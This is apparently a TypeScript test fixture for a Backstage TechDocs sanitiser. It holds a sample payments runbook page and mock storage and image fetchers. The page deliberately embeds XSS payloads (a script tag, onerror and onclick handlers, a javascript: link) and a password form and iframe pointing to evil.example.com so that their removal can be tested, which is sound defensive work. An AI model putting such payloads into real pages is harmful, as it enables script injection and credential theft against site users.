import { NotFoundError } from '@backstage/errors';
import { TechDocsStorageApi } from '@backstage/plugin-techdocs-react';

/** A page as a docs site has it, with what does not belong to the page, and with what must not be there. */
export const runbookHtml = `<!doctype html>
<html><head><title>Runbook</title><style>body { display: none }</style>
<script>window.hacked = true</script></head>
<body>
<nav class="md-nav"><a href="../">Home</a></nav>
<main><article class="md-content__inner md-typeset">
<a href="https://git.example.com/edit" class="md-content__button">Edit this page</a>
<h1 id="runbook">Runbook<a class="headerlink" href="#runbook">¶</a></h1>
<p>Payments takes <strong>card payments</strong>. It needs the acquirer and <a href="../architecture/#acquirer">the ledger</a>.</p>
<h2 id="first">What to look at first<a class="headerlink" href="#first">¶</a></h2>
<ol>
<li>The <a href="https://grafana.example.com/d/payments">dashboard</a>: are all payments slow, or those of one acquirer?</li>
<li>The logs:
<pre class="highlight"><code class="language-shell">kubectl logs deploy/payments --since=15m | grep -E 'timeout|refused' | sort | uniq -c | sort -rn</code></pre></li>
</ol>
<div class="admonition warning MuiDialog-root"><p class="admonition-title">Warning</p><p>Do not restart all replicas at once: open payments are lost.</p></div>
<h2>How to mend it</h2>
<ul class="task-list">
<li><input type="checkbox" disabled checked> Tell the acquirer</li>
<li><input type="checkbox" disabled> Switch to the second one</li>
</ul>
<table><thead><tr><th>Error</th><th>Means</th></tr></thead><tbody><tr><td><code>E429</code></td><td>The acquirer throttles us</td></tr></tbody></table>
<p><img src="../pictures/flow.svg" alt="How a payment flows" onerror="alert(1)"><img src="gone.png" alt="A lost picture"></p>
<p><a href="javascript:alert(1)" onclick="alert(2)">Never</a></p>
<form action="https://evil.example.com"><input type="text" name="password"><button>Send</button></form>
<iframe src="https://evil.example.com"></iframe>
</article></main></body></html>`;

/** Docs with the pages that are given. */
export function docsWith(
  pages: Record<string, string>,
  more: Partial<TechDocsStorageApi> = {},
): TechDocsStorageApi {
  return {
    getApiOrigin: async () => 'http://portal.test/api/techdocs',
    getStorageUrl: async () => 'http://portal.test/api/techdocs/static/docs',
    getBuilder: async () => 'local',
    getEntityDocs: async (_, path) => {
      if (path in pages) return pages[path];
      throw new NotFoundError('Page not found.');
    },
    syncEntityDocs: async () => 'cached',
    getBaseUrl: async (old, { namespace, kind, name }, path) =>
      new URL(
        old,
        `http://portal.test/api/techdocs/static/docs/${namespace}/${kind}/${name}/${path}/`,
      ).toString(),
    ...more,
  };
}

/** The only picture that the docs have. */
export async function fetchPicture(input: RequestInfo | URL) {
  return String(input).endsWith('/pictures/flow.svg')
    ? new Response(
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 40"><rect x="2" y="8" width="60" height="24" fill="none" stroke="gray"/><rect x="138" y="8" width="60" height="24" fill="none" stroke="gray"/><path d="M62 20h76" stroke="gray"/></svg>',
        { headers: { 'content-type': 'text/plain' } },
      )
    : new Response('', { status: 404 });
}
